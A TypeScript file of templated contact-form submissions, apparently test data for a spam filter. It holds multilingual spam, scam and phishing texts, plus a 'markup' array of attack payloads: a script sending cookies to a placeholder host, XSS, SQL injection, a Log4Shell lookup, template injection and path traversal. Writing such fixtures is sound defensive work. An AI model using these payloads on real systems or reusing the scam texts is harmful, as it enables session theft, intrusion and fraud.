/** Texts in the manner of those that contact forms receive. `{…|…}` is one of several; `{n}` a number, `{host}` a host, `{brand}` a name. */

/** Offers of services, without any link. */
export const pitches: readonly string[] = [
  "{Hi|Hello|Hey} there, I was {browsing|looking at} your website and noticed {several|a few} {issues|errors} that keep you from ranking. {We|My team} can bring you to the first page of Google within {n} days. Interested?",
  "Hello, I came across your site and it looks great, but it is missing out on traffic. I'm an SEO expert with {n} years of experience. Can I send you a free audit and our packages?",
  "Dear business owner, we design {modern|responsive} websites starting at ${n}. Our web design company has built over {n} sites. Would you like a free quote for your website?",
  "Hi, do you accept guest posts on your blog? We pay ${n} for each article with a dofollow link. Let me know your price.",
  "I can send your message to {n} million contact forms for ${n}. This is how you are reading this right now. Reply if you want details on contact form advertising.",
  "We have a database of {n} verified business emails in your industry. Buy the email list today with 50% discount, limited time offer. Lead generation services for your company.",
  "Hello, my name is {brand} and I manage social media marketing services. We will grow your Instagram by {n} real followers a month. 100% guaranteed, no obligation.",
  "Buongiorno, ho visitato il vostro sito e ho notato che non appare in prima pagina su Google. Offriamo posizionamento SEO a partire da {n} euro al mese. Posso chiamarla?",
  "Salve, siamo una web agency e realizziamo siti web ed e-commerce a prezzi convenienti. Ho analizzato il vostro sito e ci sono errori che vi fanno perdere clienti. Vi interessa una proposta gratuita?",
  "Gentile titolare, aumenta le vendite con la nostra campagna di digital marketing: contatti qualificati garantiti, solo per questo mese sconto del {n}%. Senza impegno di spesa.",
  "Ciao! Vuoi più follower su Instagram? Con il nostro servizio aumenta i follower reali e italiani, {n} follower a soli {n} euro. Scrivici su Telegram @{brand}.",
  "Good day, I am Mr. {brand} from {brand} Finance. We offer business loans and personal loans at 3% interest rate, fast approval, no credit check. Apply now.",
  "Offriamo prestiti tra privati da {n}.000 a {n}00.000 euro al tasso del 3%. Prestito veloce anche senza busta paga. Contattateci per email.",
  "Attention: you have been awarded the sum of {n} million USD by the compensation fund. Contact our claims agent with your bank details.",
  "My late client left an inheritance of ${n}.5 million and you share the same surname. I need you as next of kin. Strictly confidential.",
  "We are a leading manufacturer of glassware and bar tools in China, factory price, OEM welcome, fast shipping. Please send your inquiry.",
  "Dear Sir/Madam, we supply replica watches and designer handbags at wholesale prices. Best quality, free shipping worldwide.",
  "Start trading Bitcoin with our AI platform and earn ${n} a day. Guaranteed profits, risk-free. Thousands of people already make money online from home.",
  "Guadagna online da casa con le criptovalute: bastano {n} euro per iniziare e i rendimenti sono del {n}% al mese. Registrati ora.",
  "Hot lonely women in your area are waiting to chat and meet tonight. No sign up fees, real photos.",
  "Buy cheap Viagra and Cialis online without prescription. Worldwide delivery, discount {n}%.",
  "Play at the best online casino with a welcome bonus of {n} euros and {n} free spins. No deposit needed.",
  "Are you still paying too much for payroll and merchant services? We can lower your credit card processing fees by {n}%. Reply STOP to opt out.",
  "Hi, I am a virtual assistant and offer data entry services for $5 an hour. Can I help you and your company? To unsubscribe reply no.",
  "Your domain {host} expires soon. Renew your search engine registration today to keep your website listed on Google search results.",
  "Предлагаем продвижение и раскрутку сайтов в топ Яндекса и Google. Недорого, гарантия результата, пишите в Telegram.",
  "Hello, we noticed your website is not mobile friendly. We can redesign your website in {n} days. Many clients double their leads. Want a demo?",
  "Do you want more reviews? Buy 5 star Google reviews for your business, {n} reviews for ${n}, safe and permanent. Message me on WhatsApp +{n}{n}{n}.",
  "I represent an investment firm with funding for projects from {n} million. We look for a partnership opportunity, ROI of {n}%. Kindly respond.",
  "We create explainer videos that boost your sales. I came across your website and think a 60 second video would help you convert visitors. Prices start at ${n}.",
];

/** The same trades by links. */
export const linked: readonly string[] = [
  "Best {casino|betting|slots} site of 2026: https://{host}/{n} - 100% bonus",
  "{Cheap|Original} pills here: http://{host}/shop http://{host}/cialis http://{host}/viagra http://{host}/levitra https://other-{host}/x",
  "Look at this video, is this you?? bit.ly/{n}x{n} {hurry|lol} click here",
  "Earn $ {n} per day working from home https://{host}/earn?id={n}",
  "Bitcoin doubled overnight! Invest now: https://{host} and get a bonus of {n} USDT",
  "My new nude photos are here: https://{host}/anna{n}",
  "Read more: https://{host}/a https://second-{host}/b https://third-{host}/c https://fourth-{host}/d https://fifth-{host}/e",
  "Join our channel t.me/{brand}{n} for crypto signals with 90% profit",
  "Заработок в интернете от {n} рублей в день https://{host}/ref{n} подробности на https://www.second-{host} и https://third-{host} t.me/{brand}",
  "Increase your website's domain authority with quality backlinks: www.{host}",
  "Vinci subito {n} euro con i migliori casino online, bonus senza deposito: https://{host}/it",
  "We sell aged accounts, followers, reviews: https://{host} Telegram: @{brand}, discount for you today, click here",
];

/** Markup, scripts and probes for holes. */
export const markup: readonly string[] = [
  '<a href="https://{host}/">{cheap|best} {watches|shoes|pills}</a>',
  "[url=https://{host}/]{casino|loan}[/url]",
  "<script>fetch('https://{host}/'+document.cookie)</script>",
  '"><img src=x onerror=alert({n})>',
  "' OR {n}={n} -- ",
  "{n}' UNION SELECT username, password FROM users --",
  "${jndi:ldap://{host}/{n}}",
  "{{7*7}} #{7*7} <%= 7*7 %>",
  "../../../../etc/passwd",
  "<svg/onload=alert({n})>",
  "[link=http://{host}]{brand}[/link] nice site",
  "<h1>Hi</h1> <iframe src=//{host}></iframe>",
];

/** Text without an offer that one robot sends under many addresses, to try the form out. */
export const copied =
  "{Hello|Hi|Good morning}, I would like to ask about the price of your service for a private event, please send me the catalogue and the conditions. Ref {n}";
